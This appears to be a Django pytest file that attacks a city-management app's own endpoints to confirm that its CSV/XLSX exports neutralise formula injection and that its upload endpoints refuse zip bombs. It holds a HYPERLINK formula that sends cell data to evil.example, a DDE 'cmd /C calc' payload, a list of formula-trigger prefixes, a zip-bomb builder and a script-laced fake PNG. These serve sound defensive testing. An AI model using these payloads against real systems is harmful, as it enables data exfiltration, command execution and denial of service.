"""Files of tables: no cell that goes out is a formula, and no bomb that comes in is unpacked.

Bombs of each format: tests/citymgmt/test_spreadsheets.py, tests/grids/formats (hostile.py), and
of Word tests/inspections/word/test_archive.py; here every address that takes a sheet or a template
is asked.
"""

import csv
import io
import tracemalloc
import zipfile
from itertools import count
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
from django.http import HttpResponse
from django.test import Client

from grids.models import GridImport
from grids.services.grid_import_runs import run_grid_import
from tests.attack.asking import (
    GETS,
    POSTS,
    address,
    body_of,
    browser,
    reader,
    send,
    taken_back,
)
from tests.attack.marks import write_into_texts
from tests.attack.reading import words_of
from tests.city import NOW
from tests.house.url_table import Row
from tests.house.url_world import World

FORMULA = 'HYPERLINK("http://evil.example/?"&A1,"cmd|\' /C calc\'!A0")'
# How it begins: as a spreadsheet takes it, and as one does that forgives.
BEGINNINGS = (
    "=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", " =", "\u3000+", "\n-", "\u00a0@",
)  # fmt: skip
STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
GOING_OUT = [*GETS, *(row for row in POSTS if row.name in ("cases:export", "grids:place_export"))]
XLSX = "spreadsheetml"


def formulas(content: bytes, media_type: str) -> list[str]:
    """The cells that a spreadsheet would reckon."""
    if XLSX in media_type:
        book = openpyxl.load_workbook(io.BytesIO(content))
        cells = [cell for sheet in book for line in sheet for cell in line]
        return [str(cell.value) for cell in cells if cell.data_type == "f"]
    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    return [cell for line in lines for cell in line if cell.lstrip().startswith(STARTS)]


def walk_tables(world: World, shift: int) -> tuple[int, set[str]]:
    """Take out every table with a formula in each column of text; returns how many hold one, and
    the beginnings that were written."""
    asked = [(row, address(row, world), row.query(world, reader(row))) for row in GOING_OUT]
    bodies = {row.label: body_of(row, world, reader(row)) for row in GOING_OUT if row in POSTS}
    turn, begun = count(shift), set()

    def formula(_model: Any, _field: Any) -> str:
        beginning = BEGINNINGS[next(turn) % len(BEGINNINGS)]
        begun.add(beginning)
        return beginning + FORMULA

    write_into_texts(formula)
    found, told = {}, 0
    for row, url, query in asked:
        client = browser(world, reader(row))
        with taken_back():
            if row in POSTS:
                answer = send(client, row, url, bodies[row.label], world)
            else:
                answer = client.get(url, query)
            media_type = answer.get("Content-Type", "")
            if XLSX not in media_type and "csv" not in media_type:
                continue
            content = b"".join(answer.streaming_content) if answer.streaming else answer.content
        told += FORMULA[:10] in words_of(content)
        cells = formulas(content, media_type)
        if cells:
            found[row.label] = cells[:3]
    assert found == {}
    return told, begun


@pytest.mark.django_db
def test_nothing_that_people_typed_is_a_formula_in_any_file(world: World):
    """Every beginning of a formula stands in some columns; the long form has each in all."""
    told, begun = walk_tables(world, 0)
    assert told > 6
    assert begun == set(BEGINNINGS)


@pytest.mark.long
@pytest.mark.django_db
@pytest.mark.parametrize("shift", range(1, len(BEGINNINGS)))
def test_nor_whatever_beginning_it_has(world: World, shift: int):
    assert walk_tables(world, shift)[0] > 6


def bomb(name: str, size: int) -> bytes:
    """A zip archive of a member that grows to so many bytes of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        if name.endswith(".xml"):
            archive.writestr("[Content_Types].xml", "<Types/>")
            archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open(name, "w", force_zip64=True) as member:
            for _megabyte in range(size // 2**20):
                member.write(bytes(2**20))
    return out.getvalue()


# A page of the settings, which the table of addresses does not list.
CALENDAR = Row("admin:citymgmt_calendaryear_add", "POST", body=lambda _world: {"year": ""})
CELLS = "grids:imports"
TAKING_FILES = [
    CALENDAR,
    *(
        row
        for row in POSTS
        if row.name
        in {
            CELLS, "cases:ledger_imports", "grids:table", "grids:place_import",
            "grids:assignments_import", "inspections:problem_ledger_import",
            "inspections:template_try", "inspections:template_upload",
        }
    ),
]  # fmt: skip
PHOTOS = {"photo_upload", "api:photo-list"}
"""They take pictures: tests/attack/test_photos.py."""
MEMBERS = {"xlsx": "xl/worksheets/sheet1.xml", "docx": "word/document.xml", "zip": "cells.shp"}
PICTURE = b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script>"


def _suffix(row: Row) -> str:
    return "docx" if "template" in row.name else "zip" if row.name == CELLS else "xlsx"


def _who(row: Row) -> str:
    return "admin" if row is CALENDAR else reader(row)


def _refused(answer: HttpResponse, client: Client) -> bool:
    """Whether a file was refused, at once or by whoever looked at it next."""
    if answer.status_code == 302:
        # Kept as it came; the page to which it leads has looked at it.
        for row in GridImport.objects.filter(state="checking"):
            run_grid_import(import_id=row.pk, at=NOW)
        answer = client.get(answer["Location"])
    page = answer.content.decode()
    return answer.status_code in (400, 422) or any(word in page for word in REFUSED)


REFUSED = ("解压后过大", "不是文本表格", "这是图片，不是网格文件")


def attack_with(world: World, files: dict[str, bytes], most: int) -> None:
    """Send each address the file of its kind: it is refused, and not much memory is taken."""
    taken = {}
    for row in TAKING_FILES:
        person, url, suffix = _who(row), address(row, world), _suffix(row)
        body = body_of(row, world, person)
        body["file"] = SimpleUploadedFile(f"x.{suffix}", files[suffix])
        client = browser(world, person)
        tracemalloc.start()
        with taken_back():
            answer = send(client, row, url, body, world)
            refused = _refused(answer, client)
        _now, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        if not refused or peak > most:
            taken[row.label] = (answer.status_code, peak)
    assert taken == {}


@pytest.mark.django_db
def test_every_address_that_takes_a_file_is_attacked(world: World):
    taking = {
        row.name
        for row in POSTS
        if any(
            isinstance(value, UploadedFile) for value in body_of(row, world, reader(row)).values()
        )
    }
    assert taking - PHOTOS == {row.name for row in TAKING_FILES} - {CALENDAR.name}
    assert len({row.name for row in TAKING_FILES}) == 9


@pytest.mark.django_db
@pytest.mark.parametrize("before", [b"", PICTURE], ids=["bare", "behind a picture"])
def test_a_bomb_of_thirty_megabytes_is_refused_by_every_address_that_takes_a_file(
    world: World, before: bytes
):
    files = {suffix: before + bomb(name, 30 * 2**20) for suffix, name in MEMBERS.items()}
    attack_with(world, files, most=20 * 2**20)


@pytest.mark.long
@pytest.mark.django_db
def test_a_bomb_is_refused_by_every_address_that_takes_a_file(world: World):
    """A quarter of a gigabyte each, in a megabyte."""
    files = {suffix: bomb(name, 256 * 2**20) for suffix, name in MEMBERS.items()}
    attack_with(world, files, most=64 * 2**20)
